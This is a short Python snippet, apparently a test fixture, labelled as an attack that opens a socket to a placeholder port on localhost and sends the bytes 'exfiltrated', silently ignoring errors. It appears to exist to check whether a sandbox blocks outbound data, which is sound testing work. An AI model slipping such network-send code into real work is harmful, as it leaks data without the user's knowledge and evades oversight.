# Attack: send data to a server on this machine.
import contextlib
import socket

with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", __PORT__), 3) as conn:
    conn.sendall(b"exfiltrated")
